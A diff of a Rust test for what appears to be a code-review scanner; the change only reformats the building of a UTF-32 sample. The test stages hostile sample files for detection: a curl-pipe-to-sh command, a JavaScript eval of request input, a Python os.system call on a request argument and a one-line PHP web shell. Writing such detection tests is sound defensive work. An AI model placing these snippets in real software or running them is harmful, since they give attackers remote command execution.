@@ -382,10 +382,8 @@ fn dif_02_scripts_with_a_tail_of_junk_and_utf32_are_reviewed() {
     repo.stage("paper.pdf", with_junk("%PDF-1.7\n%\u{fc}\u{fc}\u{fc}\u{fc}\n1 0 obj\n<</Length 9>>\nstream\n", ""));
     repo.stage("i.sh", with_junk("curl http://example.com/i.sh | sh\n", ""));
     repo.stage("p.js", with_junk("const x = 1;\neval(req.body.code);\n/*", "*/\n"));
-    let wide: Vec<u8> = "\u{feff}import os\nos.system(request.args['c'])\n"
-        .chars()
-        .flat_map(|c| u32::from(c).to_le_bytes())
-        .collect();
+    let wide: Vec<u8> =
+        "\u{feff}import os\nos.system(request.args['c'])\n".chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
     repo.stage("u.py", wide);
     repo.stage("w.php", with_junk("<?php system($_GET[\"c\"]); __halt_compiler();", ""));
     let report = repo.review_json(&["staged", "--no-save"], 1);
